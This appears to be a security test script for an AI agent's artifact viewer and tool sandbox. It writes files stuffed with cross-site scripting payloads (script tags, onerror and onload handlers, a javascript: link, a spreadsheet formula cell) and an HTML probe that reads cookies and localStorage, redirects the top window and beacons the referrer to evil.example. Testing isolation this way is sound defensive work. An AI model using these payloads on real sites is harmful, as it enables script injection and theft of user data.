const img = `<img src=x onerror="top.ran=1;window.ran=1">`;
const script = `<script>top.ran=1;window.ran=1</script>`;
console.log(img + script);
console.error(script);
await fs.writeFile(`/artifacts/${"<img src=x onerror=window.ran=1>"}.csv`, `${img},"${script}"\n${img},=1+1\n`);
await fs.writeFile("/artifacts/hostile.json", JSON.stringify([{ [img]: script }, { b: img }]));
await fs.writeFile("/artifacts/hostile.md", `# ${img}\n\n${script}\n\n[go](javascript:window.ran=1) ![x](https://evil.example/a.png)\n`);
await fs.writeFile("/artifacts/hostile.txt", img + script);
await fs.writeFile("/artifacts/hostile.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="top.ran=1"><script>top.ran=1</script><rect width="40" height="40"/></svg>`);
await fs.writeFile("/artifacts/hostile.html", `<!doctype html><body>framed<script>
  const tried = [];
  for (const f of [() => { parent.ran = 1; }, () => parent.document.title, () => document.cookie, () => localStorage.length, () => { top.location = "https://evil.example/"; }])
    try { f(); tried.push("done"); } catch { tried.push("refused"); }
  fetch("/about").then(() => tried.push("fetched"), () => tried.push("refused")).then(() => { document.body.textContent = tried.join(" "); });
  new Image().src = "https://evil.example/?" + document.referrer;
</script></body>`);
await fs.writeFile("/skills/hostile.js", `// ${img}${script}\nmodule.exports = () => 1;\n`);
const echoed = await callMCPTool("database__query", { query: "SELECT '<script>top.ran=1</script>' AS x" });
return { echoed, img };
